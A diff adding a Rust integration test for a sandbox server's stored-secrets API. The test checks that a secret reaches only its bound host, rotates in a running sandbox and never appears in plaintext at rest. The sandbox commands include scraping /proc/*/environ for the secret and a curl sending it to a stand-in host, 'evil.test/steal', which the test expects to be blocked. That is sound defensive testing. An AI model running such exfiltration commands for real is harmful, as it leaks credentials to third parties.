@@ -17,6 +17,8 @@ use std::time::Duration;
 use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
 use serde_json::Value;
 
+mod serve;
+
 const VALUE: &str = "sk-test-7c1d0e-the-real-value";
 
 /// A CA for the tests' upstreams (as a company's internal CA would be for a real one).
@@ -782,4 +784,169 @@ fn pip_and_git_reach_a_private_index_with_the_value_as_their_credentials() {
         up.seen()
     );
     assert_value_nowhere_in(&run);
+}
+
+/// `cordon serve`'s stored secrets through E2B's `Secret` API and a create's
+/// `${e2b.secrets.NAME}` placeholders: the value goes to the bound host's requests only (as the
+/// rule's header, and in place of the variable's placeholder), never into the sandbox, any
+/// answer, or the server's files in the clear; an update reaches the running sandbox.
+#[test]
+fn e2b_stored_secrets_reach_only_the_bound_host_and_rotate_in_a_running_sandbox() {
+    let dir = temp_dir("serve");
+    let ca = TestCa::new("test upstream CA");
+    let up = Server::tls("127.0.0.9", ca.leaf("api.secret.test"));
+    let evil = Server::plain("127.0.0.10");
+    let (p, e) = (up.port, evil.port);
+    let templates = dir.join("templates.toml");
+    std::fs::write(
+        &templates,
+        format!(
+            "[templates.secrets]\nprofile = \"default\"\nallow_net = [\"api.secret.test:{p}\", \"127.0.0.9:{p}\", \"evil.test:{e}\", \"127.0.0.10:{e}\"]\n\
+             hosts = {{ \"api.secret.test\" = \"127.0.0.9\", \"evil.test\" = \"127.0.0.10\" }}\n"
+        ),
+    )
+    .unwrap();
+    let ca_file = ca.file(&dir, "ca.pem");
+    let api = serve::Server::start_in(
+        dir.join("data"),
+        &[
+            "--templates",
+            templates.to_str().unwrap(),
+            "--secret-ca",
+            ca_file.to_str().unwrap(),
+        ],
+    );
+    let e2b = |method: &str, path: &str, body: Option<Value>| -> (u16, String) {
+        let r = ureq::request(method, &format!("{}{path}", api.url))
+            .set("X-API-KEY", &api.key)
+            .timeout(Duration::from_secs(60));
+        let res = match body {
+            Some(b) => r.send_json(b),
+            None => r.call(),
+        };
+        match res {
+            Ok(r) | Err(ureq::Error::Status(_, r)) => (r.status(), r.into_string().unwrap()),
+            Err(e) => panic!("{method} {path}: {e}"),
+        }
+    };
+    let (st, created) = e2b(
+        "POST",
+        "/secrets",
+        Some(serde_json::json!({"name": "gh", "value": VALUE, "metadata": {"team": "a"}})),
+    );
+    assert_eq!(st, 201, "{created}");
+    assert!(!created.contains(VALUE), "{created}");
+    let created: Value = serde_json::from_str(&created).unwrap();
+    assert_eq!(created["currentVersion"], 1);
+    let (st, again) = e2b(
+        "POST",
+        "/secrets",
+        Some(serde_json::json!({"name": "gh", "value": "other"})),
+    );
+    assert_eq!(st, 409, "a second secret of the same name: {again}");
+    let (st, listed) = e2b("GET", "/secrets", None);
+    assert_eq!(st, 200);
+    assert!(
+        listed.contains("\"gh\"") && !listed.contains(VALUE),
+        "{listed}"
+    );
+    let (st, _) = e2b("GET", "/secrets/nope", None);
+    assert_eq!(st, 404);
+
+    let (st, sb) = e2b(
+        "POST",
+        "/sandboxes",
+        Some(serde_json::json!({
+            "templateID": "secrets",
+            "envVars": {"GH": "${e2b.secrets.gh}", "PLAIN": "1"},
+            "network": {"rules": {"api.secret.test": [
+                {"transform": {"headers": {"X-Api-Key": "key ${e2b.secrets.gh}"}}}
+            ]}}
+        })),
+    );
+    assert_eq!(st, 201, "{sb}");
+    let id = serde_json::from_str::<Value>(&sb).unwrap()["sandboxID"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let exec = |cmd: String| -> Value {
+        let (st, out) = api.call(
+            "POST",
+            &format!("/v1/sandboxes/{id}/exec"),
+            Some(serde_json::json!({"cmd": cmd, "timeout": "60s"})),
+        );
+        assert_eq!(st, 200, "{out}");
+        out
+    };
+    let url = format!("https://api.secret.test:{p}");
+    // The variable holds a placeholder; the bound host gets the value in its place and in the
+    // rule's header; a host the secret is not bound to gets neither.
+    let out = exec(format!(
+        "echo \"placeholder:$GH\"; env | grep -c {VALUE}; cat /proc/*/environ 2>/dev/null | grep -c {VALUE}; \
+         curl -sS -H \"Authorization: Bearer $GH\" {url}/one; \
+         curl -sS -H \"Authorization: Bearer $GH\" http://evil.test:{e}/steal; echo"
+    ));
+    let stdout = out["stdout"].as_str().unwrap().to_string();
+    assert!(!stdout.contains(VALUE), "{stdout}");
+    let placeholder = stdout
+        .lines()
+        .next()
+        .and_then(|l| l.strip_prefix("placeholder:"))
+        .unwrap_or_default()
+        .to_string();
+    assert!(placeholder.starts_with("cordon-secret:v1:"), "{stdout}");
+    assert!(
+        stdout.contains("upstream saw the value"),
+        "{stdout}\n{}\n{}",
+        out["stderr"],
+        api.call("GET", &format!("/v1/sandboxes/{id}/network"), None)
+            .1
+    );
+    let seen = up.seen();
+    assert!(
+        seen.contains(&format!("Authorization: Bearer {VALUE}")),
+        "{seen}"
+    );
+    assert!(
+        seen.to_ascii_lowercase()
+            .contains(&format!("x-api-key: key {VALUE}").to_ascii_lowercase()),
+        "the rule's header: {seen}"
+    );
+    assert!(!evil.seen().contains(VALUE), "{}", evil.seen());
+
+    // A new version reaches the running sandbox's next request.
+    let rotated = "sk-test-rotated-second-value";
+    let (st, upd) = e2b(
+        "POST",
+        "/secrets/gh",
+        Some(serde_json::json!({"value": rotated})),
+    );
+    assert_eq!(st, 200, "{upd}");
+    assert_eq!(
+        serde_json::from_str::<Value>(&upd).unwrap()["currentVersion"],
+        2
+    );
+    exec(format!(
+        "curl -sS -H \"Authorization: Bearer $GH\" {url}/two"
+    ));
+    assert!(
+        up.seen()
+            .contains(&format!("Authorization: Bearer {rotated}")),
+        "{}",
+        up.seen()
+    );
+
+    // At rest: neither the database nor the audit trail holds a value in the clear.
+    for f in ["cordon.db", "cordon.db-wal", "audit.jsonl"] {
+        let bytes = std::fs::read(api.data_dir.join(f)).unwrap_or_default();
+        let text = String::from_utf8_lossy(&bytes);
+        assert!(
+            !text.contains(VALUE) && !text.contains(rotated),
+            "{f} holds a value"
+        );
+    }
+    let (st, _) = e2b("DELETE", "/secrets/gh", None);
+    assert_eq!(st, 204);
+    let (st, _) = e2b("DELETE", "/secrets/gh", None);
+    assert_eq!(st, 404);
 }
